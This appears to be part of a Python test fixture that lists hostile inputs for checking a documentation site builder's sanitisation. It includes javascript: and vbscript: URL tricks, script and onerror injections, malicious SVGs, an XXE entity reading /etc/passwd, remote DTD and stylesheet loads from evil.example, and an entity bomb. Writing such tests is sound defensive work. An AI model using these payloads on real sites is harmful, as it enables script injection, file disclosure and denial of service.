    "md-link-target": '[x](https://example.org/){target="evil" rel="opener me" onclick="window.pwned=1"}',
    "md-link-style": '[x](https://example.org/){style="position:fixed;inset:0" class="mobile-header"}',
    "md-reference": f"[x][r]\n\n[r]: javascript:{RUN}",
    "md-reference-angle": f"[x][r]\n\n[r]: <java&Tab;script:{RUN}>",
    "md-autolink": f"<javascript:{RUN}>",
    "md-autolink-data": "<data:text/html,x>",
    "md-autolink-capitals": f"<JAVASCRIPT:{RUN}>",
    "md-wikilink": f"[[javascript:{RUN}|x]]",
    "md-wikilink-html": f"[[x|<img src=x onerror={RUN}>]]",
    "md-image": f"![x](javascript:{RUN})",
    "md-image-entity": f"![x](javascript&colon;{RUN})",
    "md-image-capitals": "![x](HTTPS://evil.example/a.png)",
    "md-image-slashes": "![x](//evil.example/a.png)",
    "md-image-backslash": "![x](/\\evil.example/a.png)",
    "md-image-backslashes": "![x](\\\\\\\\evil.example/a.png)",
    "md-image-one-slash": "![x](http:/evil.example/a.png)",
    "md-image-tab": "![x](<ht&Tab;tps://evil.example/a.png>)",
    "md-image-space": "![x](<&#32;https://evil.example/a.png>)",
    "md-image-ftp": "![x](ftp://evil.example/a.png)",
    "md-image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)",
    "md-image-data-html": f"![x](data:text/html,<script>{RUN}</script>)",
    "md-image-reference": "![x][r]\n\n[r]: //evil.example/a.png",
    "md-image-attribute": f'![x](a.png){{onerror="{RUN}" style="position:fixed" width="9999px" class="toc-drawer"}}',
    "md-image-blob": f"![x](blob:{ELSEWHERE}/x)",
    "md-image-film": f"![x]({ELSEWHERE}/a.mp4)",
    "md-figure": ":::{figure} //evil.example/a.png\n:alt: x\n\nCaption\n:::",
    "md-figure-target": f":::{{figure}} a.png\n:alt: x\n:target: javascript:{RUN}\n\nCaption\n:::",
    "md-figure-target-tab": f":::{{figure}} a.png\n:alt: x\n:target: \"java\\tscript:{RUN}\"\n\nCaption\n:::",
    "md-figure-target-data": ":::{figure} a.png\n:alt: x\n:target: data:text/html,x\n\nCaption\n:::",
    "md-image-target": f"```{{image}} a.png\n:alt: x\n:target: JavaScript:{RUN}\n```",
    "md-figure-class": ":::{figure} a.png\n:alt: x\n:figclass: mobile-header\n:class: overlay\n\nCaption\n:::",
    "md-figure-width": ":::{figure} a.png\n:alt: x\n:figwidth: 9999px\n\nCaption\n:::",
    "md-id": "{#documentElement}\nWords.",
    "md-attributes": f'{{onclick="{RUN}" style="position:fixed;inset:0" .toc-drawer}}\nWords.',
    "md-attributes-span": f'[words]{{onmouseover="{RUN}" style="position:fixed" #Site-main}}',
    "md-code-lang": f"```\"><script>{RUN}</script>\nx\n```",
    "md-code-caption": f"```{{code-block}} text\n:caption: <script>{RUN}</script>\n\nx\n```",
    "md-code-class": "```{code-block} text\n:class: toc-drawer\n\nx\n```",
    "md-maths": f"$\\text{{<script>{RUN}</script>}}$",
    "md-maths-href": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "md-maths-block": f"$$\n</math><script>{RUN}</script>\n$$",
    "md-maths-label": f"$$\nx\n$$ (<script>{RUN}</script>)",
    "md-footnote-label": f"Words.[^<script>]\n\n[^<script>]: {RUN}",
    "md-admonition-title": f":::{{admonition}} <script>{RUN}</script>\nWords.\n:::",
    "md-update": f":::{{update}} 2021-04-01\n<script>{RUN}</script>\n:::",
    "md-table-caption": f":::{{table}} <img src=x onerror={RUN}>\n| a |\n|---|\n| b |\n:::",
    "md-include": "```{include} part.txt\n```",
    "md-download": "{download}`open <page.html>`",
    "md-download-svg": "{download}`open <picture.svg>`",
    "md-download-script": f"{{download}}`x <javascript://%0a{RUN}>`",
    "md-download-data": "{download}`x <data://text/html,x>`",
    "md-link-html": "[open](page.html)",
    "md-link-xhtml": "[open](page.xhtml)",
    "md-link-xml": "[open](page.xml)",
    "md-link-svg": "[open](picture.svg)",
    "md-link-svgz": "[open](picture.svgz)",
    "rst-link": f"```{{eval-rst}}\n`k <javascript:{RUN}>`_\n```",
    "rst-link-anonymous": f"```{{eval-rst}}\n`k <JAVASCRIPT:{RUN}>`__\n```",
    "rst-target": f"```{{eval-rst}}\n`k`_\n\n.. _k: javascript:{RUN}\n```",
    "rst-target-indirect": f"```{{eval-rst}}\nk_\n\n.. _k: j_\n.. _j: vbscript:{RUN}\n```",
    "rst-standalone": f"```{{eval-rst}}\ndata:text/html,x and javascript:{RUN}\n```",
    "rst-image": f"```{{eval-rst}}\n.. image:: javascript:{RUN}\n   :alt: x\n```",
    "rst-image-elsewhere": "```{eval-rst}\n.. image:: //evil.example/a.png\n   :alt: x\n```",
    "rst-image-target": f"```{{eval-rst}}\n.. image:: a.png\n   :alt: x\n   :target: javascript:{RUN}\n```",
    "rst-substitution": "```{eval-rst}\n|x|\n\n.. |x| image:: HTTPS://evil.example/a.png\n   :alt: x\n```",
    "rst-substitution-link": f"```{{eval-rst}}\n|x|_\n\n.. |x| replace:: words\n.. _x: javascript:{RUN}\n```",
    "rst-figure-target": f"```{{eval-rst}}\n.. figure:: a.png\n   :alt: x\n   :target: javascript:{RUN}\n\n   Caption\n```",
    "rst-class": "```{eval-rst}\n.. class:: mobile-header\n\nWords.\n```",
    "rst-role-class": "```{eval-rst}\n.. role:: x\n   :class: sidebar-drawer\n\n:x:`words`\n```",
    "rst-table-width": "```{eval-rst}\n.. list-table::\n   :width: 9999px\n   :widths: 1 2\n\n   * - a\n     - b\n```",
    "md-toctree": "```{toctree}\nx <javascript://%0awindow.pwned=1>\ny <data://text/html,x>\nz <vbscript://x>\n```",
    "md-toctree-caption": f"```{{toctree}}\n:caption: <img src=x onerror={RUN}>\nx <https://example.org/>\n```",
    "md-definition": f"[a] [b] ![b]\n\n[a]: <javascript:{RUN}> \"t\"\n\n[b]: java&Tab;script:{RUN}",
    "md-entities": f"[x](javascript&colon;{RUN}) [y](&#106;avascript:{RUN}) [z](java%73cript:{RUN})",
    "md-project": f"<project:javascript:{RUN}> [x](inv:javascript:x) <path:javascript:x> [y](myst:javascript)",
    "md-role": f"```{{role}} evil(raw)\n:format: html\n```\n\n{{evil}}`<script>{RUN}</script>`",
    "md-abbr": f"{{abbr}}`<b> (<script>{RUN}</script>\" onmouseover=\"{RUN})`",
    "md-literal": f"```{{parsed-literal}}\n<script>{RUN}</script> [x](javascript:{RUN})\n```",
    "md-object": f"```{{py:function}} <script>{RUN}</script>(x=<b>)\n:module: <i>\nwords\n```",
    "md-code-markup": f"```{{code-block}} python\n:caption: </pre><script>{RUN}</script>\n\nx='</pre><script>{RUN}</script>'\n```",
    "md-space": "$\\hspace{-999em}x$ $\\hspace{999em}x$\n\n$$\n\\hspace{-99em}\\text{words}\n$$",
    "md-over": "$" + "\\overset{x}{" * 40 + "y" + "}" * 40 + "$",
    "md-marks": f"Word{(chr(0x301) + chr(0x302)) * 900}",
    "rst-toctree": f"```{{eval-rst}}\n.. toctree::\n\n   x <javascript://%0a{RUN}>\n```",
    "rst-image-height": "```{eval-rst}\n.. image:: a.png\n   :alt: x\n   :height: 9999px\n```",
    "rst-image-target-named": (
        f"```{{eval-rst}}\n.. image:: a.png\n   :alt: x\n   :target: evil_\n\n.. _evil: javascript:{RUN}\n```"
    ),
    "rst-roles": (
        "```{eval-rst}\n.. role:: h(raw)\n   :format: html latex\n\n.. default-role:: h\n\n"
        f"`<script>{RUN}</script>`\n```"
    ),
    "rst-cell": f"```{{eval-rst}}\n.. list-table::\n\n   * - .. raw:: html\n\n          <script>{RUN}</script>\n```",
    "rst-fields": f"```{{eval-rst}}\n:<script>: {RUN}\n\n--opt<script>  words\n\n>>> '<script>{RUN}</script>'\n```",
    "rst-container-name": "```{eval-rst}\n.. container::\n   :name: Site-main\n\n   Words.\n```",
}  # fmt: skip

BESIDE: dict[str, str | bytes] = {"a.png": PIXEL}
PAGES: dict[str, dict[str, str | bytes]] = {
    "md-include": {"part.txt": f"<script>{RUN}</script>\n\n<img src=x onerror={RUN}>\n"},
    "md-download": {"page.html": f"<script>{RUN}</script>"},
    "md-download-svg": {"picture.svg": f"{SVG}><script>{RUN}</script>{LINE}</svg>"},
    "md-link-html": {"page.html": f"<script>{RUN}</script>"},
    "md-link-xhtml": {"page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'},
    "md-link-xml": {"page.xml": f'<x><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script></x>'},
    "md-link-svg": {"picture.svg": f"{SVG} onload='{RUN}'>{LINE}</svg>"},
    "md-link-svgz": {"picture.svgz": b"\x1f\x8b\x08\0\0\0\0\0\0\x03"},
}

# -- Pictures -----------------------------------------------------------------------

BOMB = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DRAWINGS: dict[str, str | bytes] = {
    "svg-onload": f'{SVG} onload="{RUN}">{LINE}</svg>',
    "svg-onload-capitals": f'{SVG} ONLOAD="{RUN}">{LINE}</svg>',
    "svg-onclick-deep": f'{SVG}>{LINE}<g><g><rect width="9" height="9" onClick="{RUN}"/></g></g></svg>',
    "svg-script": f"{SVG}><script>{RUN}</script>{LINE}</svg>",
    "svg-script-capitals": f"{SVG}><Script>{RUN}</Script>{LINE}</svg>",
    "svg-script-prefix": f'<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9" stroke="currentColor"><s:script>{RUN}</s:script></s:svg>',
    "svg-script-html": f'{SVG} xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{RUN}</h:script>{LINE}</svg>',
    "svg-script-foreign": f'{SVG} xmlns:x="urn:x"><x:script>{RUN}</x:script>{LINE}</svg>',
    "svg-script-none": f'{SVG}><script xmlns="">{RUN}</script>{LINE}</svg>',
    "svg-html-img": f'{SVG}><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{RUN}"/>{LINE}</svg>',
    "svg-html-none": f'{SVG}>{LINE}<p xmlns=""><img src="x" onerror="{RUN}"/></p></svg>',
    "svg-foreign-object": f'{SVG}>{LINE}<foreignObject width="9" height="9"><iframe xmlns="" srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"/></foreignObject></svg>',
    "svg-foreign-lower": f'{SVG}>{LINE}<foreignobject><body xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignobject></svg>',
    "svg-link": f'{SVG}>{LINE}<a href="javascript:{RUN}"><text y="9">x</text></a></svg>',
    "svg-link-xlink": f'{SVG}>{LINE}<a xlink:href="java&#9;script:{RUN}"><text y="9">x</text></a></svg>',
    "svg-link-prefix": f'{SVG} xmlns:l="http://www.w3.org/1999/xlink">{LINE}<a l:href="JAVASCRIPT:{RUN}"><text y="9">x</text></a></svg>',
    "svg-set": f'{SVG}>{LINE}<a><set attributeName="href" to="javascript:{RUN}"/><text y="9">x</text></a></svg>',
    "svg-animate": f'{SVG}>{LINE}<a><animate attributeName="xlink:href" values="#a;javascript:{RUN}"/><text y="9">x</text></a></svg>',
    "svg-animate-handler": f'{SVG}>{LINE}<animate attributeName="x" dur="1s" onbegin="{RUN}"/></svg>',
    "svg-handler": f'{SVG} xmlns:ev="http://www.w3.org/2001/xml-events">{LINE}<handler ev:event="load">{RUN}</handler></svg>',
    "svg-use-data": f"{SVG}>{LINE}<use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/&gt;#x\"/></svg>",
    "svg-use-elsewhere": f'{SVG}>{LINE}<use href="{ELSEWHERE}/a.svg#x"/></svg>',
    "svg-image-elsewhere": f'{SVG}>{LINE}<image href="{ELSEWHERE}/a.png" width="9" height="9"/></svg>',
    "svg-image-relative": f'{SVG}>{LINE}<image href="//evil.example/a.png" width="9" height="9"/></svg>',
    "svg-image-svg": f"{SVG}>{LINE}<image href=\"data:image/svg+xml,&lt;svg onload='{RUN}'/&gt;\" width=\"9\" height=\"9\"/></svg>",
    "svg-fill-elsewhere": f'{SVG}>{LINE}<rect width="9" height="9" fill="url({ELSEWHERE}/e#a)"/></svg>',
    "svg-fill-escaped": f'{SVG}>{LINE}<rect width="9" height="9" fill="u\\72l(//evil.example/e#a)"/></svg>',
    "svg-style-attribute": f'{SVG}>{LINE}<rect width="9" height="9" style="fill:url({ELSEWHERE}/e#a)"/></svg>',
    "svg-style-cover": f'{SVG} style="position:fixed;inset:0;width:100vw;height:100vh">{LINE}</svg>',
    "svg-style-import": f"{SVG}><style>@import '{ELSEWHERE}/a.css';</style>{LINE}</svg>",
    "svg-style-font": f"{SVG}><style>@font-face{{font-family:x;src:url({ELSEWHERE}/a.woff)}}</style>{LINE}</svg>",
    "svg-style-page": f"{SVG}>{LINE}<style>body,svg{{position:fixed;inset:0}}</style></svg>",
    "svg-style-html": f'{SVG}>{LINE}<style xmlns="http://www.w3.org/1999/xhtml">body{{display:none}}</style></svg>',
    "svg-class-cover": f'{SVG} class="mobile-header">{LINE}<g class="toc-drawer"/></svg>',
    "svg-id-clobber": f'{SVG} id="Site-main">{LINE}<g id="Site-contents"/></svg>',
    "svg-feimage": f'{SVG}>{LINE}<filter id="f"><feImage href="{ELSEWHERE}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-stylesheet": f'<?xml-stylesheet href="{ELSEWHERE}/a.css"?>{SVG}>{LINE}</svg>',
    "svg-stylesheet-xsl": f'<?xml-stylesheet type="text/xsl" href="#x"?>{SVG}>{LINE}</svg>',
    "svg-doctype-entity": f'<!DOCTYPE svg [<!ENTITY x "<script>{RUN}</script>">]>{SVG}>&x;{LINE}</svg>',
    "svg-doctype-file": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG}><text y="9">&x;</text>{LINE}</svg>',
    "svg-doctype-elsewhere": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{ELSEWHERE}/a.dtd">%x;]>{SVG}>{LINE}</svg>',
    "svg-doctype-attribute": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>{SVG}>{LINE}</svg>',
    "svg-bomb": f'<!DOCTYPE svg [<!ENTITY l0 "lol">{BOMB}]>{SVG}><text y="9">&l9;</text>{LINE}</svg>',
    "svg-utf16": f"{SVG} onload='{RUN}'>{LINE}</svg>".encode("utf-16"),
    "svg-utf7": f'<?xml version="1.0" encoding="utf-7"?>{SVG}>+ADw-script+AD4-{RUN}+ADw-/script+AD4-{LINE}</svg>',
    "svg-title": f"{SVG}><title>&lt;/title>&lt;script>{RUN}&lt;/script></title>{LINE}</svg>",
    "svg-title-html": f'{SVG}>{LINE}<title><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{RUN}"/></title></svg>',
    "svg-desc": f'{SVG}>{LINE}<desc><noscript><a title="&lt;/noscript>&lt;img src=x onerror={RUN}>"/></noscript></desc></svg>',
    "svg-cdata": f"{SVG}>{LINE}<text><![CDATA[</text></svg><script>{RUN}</script>]]></text></svg>",
    "svg-breakout": f'{SVG}>{LINE}<p/><b/><div/><style>&lt;/style>&lt;img src=x onerror={RUN}></style></svg>',
    "svg-comment": f"{SVG}>{LINE}<!-- --!&gt; <script>{RUN}</script> --></svg>",
    "svg-base": f'{SVG} xml:base="{ELSEWHERE}/">{LINE}<use href="a.svg#x"/></svg>',
    "svg-attribute-break": f"{SVG} role='\"&gt;&lt;script>{RUN}&lt;/script>'>{LINE}</svg>",
    "svg-iframe": f'{SVG}>{LINE}<iframe src="{ELSEWHERE}/"/></svg>',
    "svg-audio": f'{SVG}>{LINE}<audio xmlns="http://www.w3.org/1999/xhtml" src="{ELSEWHERE}/a.mp3"/></svg>',
    "svg-visible": f'{SVG} overflow="visible" style="overflow:visible">{LINE}<rect x="-999" y="-999" width="9999" height="9999"/></svg>',
    "svg-transform": f'{SVG} transform="scale(99)" style="transform:scale(99)">{LINE}</svg>',
    "svg-large": f'{SVG} width="9999" height="9999">{LINE}</svg>',
    "svg-deep": f"{SVG}>{'<g>' * 600}{LINE}{'</g>' * 600}</svg>",
}  # fmt: skip
# Pictures that are something else than their names say.
MISLABELLED: dict[str, tuple[str, str | bytes]] = {
    "png-svg": ("p.png", f"{SVG} onload='{RUN}'>{LINE}</svg>"),
    "png-html": ("p.png", f"<!DOCTYPE html><script>{RUN}</script>"),
    "gif-html": ("p.gif", f"\n  <html><script>{RUN}</script></html>"),
    "jpg-script": ("p.jpg", f"<script>{RUN}</script>"),
    "webp-bom": ("p.webp", b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>"),
    "svg-upper": ("p.SVG", f"{SVG} onload='{RUN}'>{LINE}</svg>"),
    "svg-html": ("p.svg", f"<html><body><script>{RUN}</script></body></html>"),
    "svg-rubbish": ("p.svg", b"\xff\xfe\x00 currentColor"),
}

# -- Names and front matter ---------------------------------------------------------

BREAKING = {
    "script": f"</title><script>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "quote": f"\" onmouseover=\"{RUN}",
    "apostrophe": f"' onfocus='{RUN}' autofocus='",
    "json": f'</script><script>{RUN}</script>","x":"',
    "template": "{{ 7 * 7 }}{% raw %}",
    "comment": f"--><script>{RUN}</script><!--",
    "cdata": f"]]><script>{RUN}</script><![CDATA[",
}  # fmt: skip
KEYS = ("category", "series", "tags", "description")
FRONT = {
    "front-canonical": {"canonical_link": f"'javascript:{RUN}'"},
    "front-canonical-http": {"canonical_link": "'https://evil.example\\\"><script>window.pwned=1</script>'"},
    "front-canonical-tab": {"canonical_link": '"java\\tscript:window.pwned=1"'},
    "front-canonical-data": {"canonical_link": "'data:text/html,x'"},
    "front-redirect": {"redirect": f"['javascript:{RUN}']"},
    "front-redirect-host": {"redirect": f"['{ELSEWHERE}/x']"},
    "front-redirect-slashes": {"redirect": "['//evil.example/x']"},
    "front-redirect-backslash": {"redirect": "['/\\evil.example/x']"},
    "front-redirect-markup": {"redirect": f"['/old/<script>{RUN}</script>/']"},
    "front-redirect-quote": {"redirect": f"['/old/\" onload=\"{RUN}/']"},
    "front-cover-elsewhere": {"cover": f"{ELSEWHERE}/a.png", "cover_alt": "x"},
    "front-cover-slashes": {"cover": "//evil.example/a.png", "cover_alt": "x"},
    "front-cover-alt": {"cover": "a.png", "cover_alt": f"'\" onerror=\"{RUN}'"},
    "front-language": {"language": f"'en\" onload=\"{RUN}'"},
    "front-author": {"author": "'<script>'"},
    "front-date": {"date": "'2021-03-26<script>'"},
    "front-meta": {"myst": f"{{html_meta: {{'http-equiv=refresh': '0;url={ELSEWHERE}/'}}}}"},
}


def quoted(value: str) -> str:
    """Return *value* as YAML writes it between apostrophes."""
    return "'" + value.replace("'", "''") + "'"


def records() -> Iterator[Hostile]:
    for name, body in HTML.items():
        yield post(f"html-{name}", body, beside=BESIDE)
        # Markdown takes an element for text if a value without quotation marks has `=` in it, but not in a block.
        if body.startswith("<") and f"={RUN}" in body:
            yield post(f"block-{name}", f"<div>\n{body}\n</div>", beside=BESIDE)
    for name, body in MARKDOWN.items():
        yield post(name, body, beside={**BESIDE, **PAGES.get(name, {})})
    for name, drawing in DRAWINGS.items():
        yield post(f"picture-{name}", "![x](p.svg)", beside={"p.svg": drawing})
    for name, (file, content) in MISLABELLED.items():
        yield post(f"picture-{name}-named", f"![x]({file})", beside={file: content})
    for name in ("svg-onload", "svg-script", "svg-foreign-object", "svg-link", "svg-image-elsewhere"):
        yield post(f"cover-{name}", "Words.", beside={"c.svg": DRAWINGS[name]}, cover="c.svg", cover_alt="x")
        yield post(f"link-{name}", "[open](p.svg)", beside={"p.svg": DRAWINGS[name]})
    for name, text in BREAKING.items():
        yield post(f"title-{name}", "Words.", title=text)
        yield post(f"heading-{name}", f"## {text}\n\n[x](#{name})")
        yield post(f"alt-{name}", f"![{text}](a.png)", beside=BESIDE)
        for key in KEYS:
            value = f"[{quoted(text)}]" if key == "tags" else quoted(text)
            yield post(f"{key}-{name}", "Words.", **{key: value})
    for name, keys in FRONT.items():
        yield post(name, "Words.", beside=BESIDE, **keys)
    for number, file in enumerate([f"a'onerror={RUN} x='.png", "a&quot;b.png", "a #b?c.png", "javascript:a.png"]):
        yield post(f"file-{number}", f"![x](<{file}>)", beside={file: PIXEL})


HOSTILE = tuple(records())
